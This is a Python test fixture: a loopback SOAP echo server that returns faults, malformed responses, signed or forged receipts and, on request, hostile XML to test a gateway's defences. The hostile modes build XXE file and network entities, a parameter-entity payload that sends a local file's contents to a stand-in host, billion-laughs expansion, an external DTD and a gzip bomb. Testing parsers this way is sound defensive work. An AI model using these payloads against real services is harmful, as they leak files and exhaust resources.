"""A real SOAP server on loopback for the SOAP machinery's tests: the echo contract, every misbehaviour on demand.

The request's `Mode` element picks the answer, so concurrent calls can each ask for their own. The server
counts every request it gets (method and path), the connections they came on and how many were in flight,
and keeps the raw bodies: what the gateway sent is checked here, not in the gateway.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import hashlib
import socket
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from aiohttp import web
from lxml import etree

from gateway.errors import SignatureRejected
from gateway.soap.signing import sign, verify
from gateway.soap.xml import parse_xml

ECHO_NS = "urn:test:soap-echo"
SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"
WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
CONTRACT_DIR = Path(__file__).resolve().parents[1] / "soap_contract"
WSDL = CONTRACT_DIR / "echo.wsdl"
PHONE_IN_FAULT = "0912345678"


def envelope(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="{SOAP11}">'
        f"<soap:Body>{body}</soap:Body></soap:Envelope>"
    ).encode()


def answer(code: str, amount: int = 1_500_000, note: str = "") -> bytes:
    note_xml = f"<e:Note>{note}</e:Note>" if note else ""
    return envelope(
        f'<e:LookupResponse xmlns:e="{ECHO_NS}"><e:Code>{code}</e:Code><e:Amount>{amount}</e:Amount>{note_xml}'
        "</e:LookupResponse>"
    )


def fault(code: str, text: str) -> bytes:
    return envelope(f"<soap:Fault><faultcode>soap:{code}</faultcode><faultstring>{text}</faultstring></soap:Fault>")


def closed_port() -> int:
    """A loopback port nothing listens on (bound, then released)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
    return port


@dataclass
class Received:
    body: bytes
    headers: dict[str, str]
    peer: tuple[str, int]


@dataclass
class EchoServer:
    """The echo service; `hostile_file` and `evil_url` feed the XXE answers."""

    hostile_file: Path | None = None
    evil_url: str = "http://127.0.0.1:9"
    oversize_bytes: int = 200_000
    slow_s: float = 3.0
    pool_delay_s: float = 0.05
    password: str | None = None
    # Submit: the form is verified against `client_cert_pem`; the receipt is signed with `signer` (key, cert)
    # as `receipt_mode` says: "signed", "unsigned", "tampered" (changed after signing) or "forged" (`forger`).
    client_cert_pem: bytes | None = None
    signer: tuple[bytes, bytes] | None = None
    forger: tuple[bytes, bytes] | None = None
    receipt_mode: str = "signed"
    verified_forms: list[str] = field(default_factory=list)
    hits: Counter[str] = field(default_factory=Counter)
    received: list[Received] = field(default_factory=list)
    sent: list[bytes] = field(default_factory=list)
    peers: set[tuple[str, int]] = field(default_factory=set)
    in_flight: int = 0
    max_in_flight: int = 0
    digests_checked: int = 0
    url: str = ""
    _runner: web.AppRunner | None = None

    async def start(self) -> str:
        app = web.Application(client_max_size=8 * 1024 * 1024)
        app.router.add_route("*", "/{tail:.*}", self._handle)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
        self.url = f"http://127.0.0.1:{port}/echo"
        return self.url

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()

    async def _handle(self, request: web.Request) -> web.StreamResponse:
        self.hits[f"{request.method} {request.path}"] += 1
        peer = request.transport.get_extra_info("peername") if request.transport else ("?", 0)
        self.peers.add((peer[0], peer[1]))
        self.in_flight += 1
        self.max_in_flight = max(self.max_in_flight, self.in_flight)
        try:
            if request.method != "POST" or request.path != "/echo":
                return web.Response(status=404, text="not here")
            body = await request.read()
            self.received.append(Received(body, dict(request.headers), (peer[0], peer[1])))
            root = parse_xml(body, max_bytes=1_000_000, max_depth=32)
            self._check_token(root)
            submit = root.find(f"{{{SOAP11}}}Body/{{{ECHO_NS}}}SubmitRequest")
            if submit is not None:
                return self._submit(submit)
            request_element = root.find(f"{{{SOAP11}}}Body/{{{ECHO_NS}}}LookupRequest")
            assert request_element is not None, "not a LookupRequest"
            code = request_element.findtext(f"{{{ECHO_NS}}}Code") or ""
            mode = request_element.findtext(f"{{{ECHO_NS}}}Mode") or "ok"
            response = await self._answer(request, mode, code)
            if isinstance(response, web.Response) and response.body is not None:
                self.sent.append(bytes(response.body))  # type: ignore[arg-type]
            return response
        finally:
            self.in_flight -= 1

    def _submit(self, submit: object) -> web.Response:
        """Verify the signed form as a partner would, answer with a receipt signed as `receipt_mode` says."""
        form = submit[0]  # type: ignore[index]
        assert self.client_cert_pem is not None and self.signer is not None
        try:
            verified = verify(form, trusted_cert_pem=self.client_cert_pem)
        except SignatureRejected as exc:
            body = fault("Client", f"signature refused: {exc.reason}")
            return web.Response(status=500, body=body, headers={"Content-Type": "text/xml; charset=utf-8"})
        self.verified_forms.append(verified.signed_sha256)
        receipt = parse_xml(
            f'<r:Receipt xmlns:r="urn:test:receipt"><r:Number>R-{len(self.verified_forms)}</r:Number>'
            f"<r:FormSha256>{verified.signed_sha256}</r:FormSha256></r:Receipt>".encode(),
            max_bytes=10_000,
            max_depth=5,
        )
        key, cert = self.forger if self.receipt_mode == "forged" and self.forger else self.signer
        if self.receipt_mode != "unsigned":
            receipt = sign(receipt, key_pem=key, cert_pem=cert)
        text = etree.tostring(receipt, encoding="unicode")
        if self.receipt_mode == "tampered":
            text = text.replace("<r:Number>R-", "<r:Number>R-9")
        body = envelope(f'<e:SubmitResponse xmlns:e="{ECHO_NS}">{text}</e:SubmitResponse>')
        self.sent.append(body)
        return web.Response(body=body, headers={"Content-Type": "text/xml; charset=utf-8"})

    def _check_token(self, root: object) -> None:
        """Verify a PasswordDigest as a partner would: Base64(SHA-1(nonce + created + password))."""
        if self.password is None:
            return
        token = root.find(f"{{{SOAP11}}}Header/{{{WSSE}}}Security/{{{WSSE}}}UsernameToken")  # type: ignore[attr-defined]
        assert token is not None, "no UsernameToken"
        password = token.find(f"{{{WSSE}}}Password")
        if password.get("Type", "").endswith("#PasswordDigest"):
            nonce = base64.b64decode(token.findtext(f"{{{WSSE}}}Nonce"))
            created = token.findtext(f"{{{WSU}}}Created").encode()
            expected = base64.b64encode(hashlib.sha1(nonce + created + self.password.encode()).digest()).decode()
            assert password.text == expected, "digest does not verify"
            self.digests_checked += 1

    async def _answer(self, request: web.Request, mode: str, code: str) -> web.StreamResponse:
        xml = "text/xml; charset=utf-8"
        if mode == "ok":
            return web.Response(body=answer(code), content_type="text/xml", charset="utf-8")
        if mode == "pool":
            await asyncio.sleep(self.pool_delay_s)
            return web.Response(body=answer(code), content_type="text/xml", charset="utf-8")
        if mode == "slow":
            await asyncio.sleep(self.slow_s)
            return web.Response(body=answer(code), content_type="text/xml", charset="utf-8")
        if mode == "fault-client":
            text = f"Dossier {code} refused: applicant phone {PHONE_IN_FAULT} does not match"
            return web.Response(status=500, body=fault("Client", text), headers={"Content-Type": xml})
        if mode == "fault-server":
            return web.Response(status=500, body=fault("Server", "database down"), headers={"Content-Type": xml})
        if mode == "fault-auth":
            return web.Response(
                status=500,
                body=envelope(
                    f'<soap:Fault xmlns:wsse="{WSSE}"><faultcode>wsse:FailedAuthentication</faultcode>'
                    "<faultstring>The security token could not be authenticated</faultstring></soap:Fault>"
                ),
                headers={"Content-Type": xml},
            )
        if mode == "http-503":
            page = "<!DOCTYPE html><html><body><h1>503 Service Unavailable</h1></body></html>"
            return web.Response(status=503, text=page, content_type="text/html")
        if mode == "http-500-huge":
            return web.Response(status=500, body=b"x" * self.oversize_bytes, content_type="text/plain")
        if mode == "http-429":
            return web.Response(status=429, text="slow down", headers={"Retry-After": "7"})
        if mode == "http-401":
            return web.Response(status=401, text="who are you")
        if mode == "http-404":
            return web.Response(status=404, text="no such service")
        if mode == "garbage":
            return web.Response(status=200, body=b"<<<this is not XML>>> \x00\xff", content_type="text/xml")
        if mode == "empty":
            return web.Response(status=200, body=b"", content_type="text/xml")
        if mode == "not-envelope":
            return web.Response(status=200, body=b"<Hello>world</Hello>", content_type="text/xml")
        if mode == "xxe-file":
            assert self.hostile_file is not None
            return self._hostile(f'<!ENTITY x SYSTEM "{self.hostile_file.as_uri()}">', code)
        if mode == "xxe-http":
            return self._hostile(f'<!ENTITY x SYSTEM "{self.evil_url}/xxe">', code)
        if mode == "parameter-entity":
            assert self.hostile_file is not None
            return self._hostile(
                f'<!ENTITY % f SYSTEM "{self.hostile_file.as_uri()}">'
                f"<!ENTITY % e \"<!ENTITY x SYSTEM '{self.evil_url}/pe?%f;'>\"> %e;",
                code,
            )
        if mode == "billion-laughs":
            levels = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 9)]
            return self._hostile("".join(levels) + f'<!ENTITY x "{"&l8;" * 10}">', code)
        if mode == "external-dtd":
            body = answer(code).replace(
                b"<soap:Envelope", f'<!DOCTYPE soap:Envelope SYSTEM "{self.evil_url}/evil.dtd"><soap:Envelope'.encode()
            )
            return web.Response(body=body, content_type="text/xml")
        if mode == "deep":
            nested = "<e:Note>" + "<d>" * 60 + "</d>" * 60 + "</e:Note>"
            body = answer(code).replace(b"</e:Amount>", f"</e:Amount>{nested}".encode())
            return web.Response(body=body, content_type="text/xml")
        if mode == "oversize":
            return web.Response(body=answer(code, note="x" * self.oversize_bytes), content_type="text/xml")
        if mode == "oversize-chunked":
            response = web.StreamResponse(headers={"Content-Type": xml})
            response.enable_chunked_encoding()
            await response.prepare(request)
            data = answer(code, note="y" * self.oversize_bytes)
            for start in range(0, len(data), 16_384):
                await response.write(data[start : start + 16_384])
            await response.write_eof()
            return response
        if mode == "gzip-bomb":
            bomb = gzip.compress(answer(code, note="0" * (self.oversize_bytes * 10)))
            return web.Response(body=bomb, headers={"Content-Type": xml, "Content-Encoding": "gzip"})
        raise web.HTTPBadRequest(text=f"unknown mode {mode}")

    def _hostile(self, declarations: str, code: str) -> web.Response:
        body = answer(code, note="&x;").replace(
            b"<soap:Envelope", f"<!DOCTYPE soap:Envelope [{declarations}]><soap:Envelope".encode(), 1
        )
        return web.Response(body=body, content_type="text/xml")



@dataclass
class CountingServer:
    """A server that only counts: where hostile documents point, to prove nobody came."""

    hits: Counter[str] = field(default_factory=Counter)
    url: str = ""
    _runner: web.AppRunner | None = None

    async def start(self) -> str:
        app = web.Application()

        async def count(request: web.Request) -> web.Response:
            self.hits[request.path] += 1
            return web.Response(text="SECRET-FROM-THE-NETWORK")

        app.router.add_route("*", "/{tail:.*}", count)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
        self.url = f"http://127.0.0.1:{port}"
        return self.url

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()
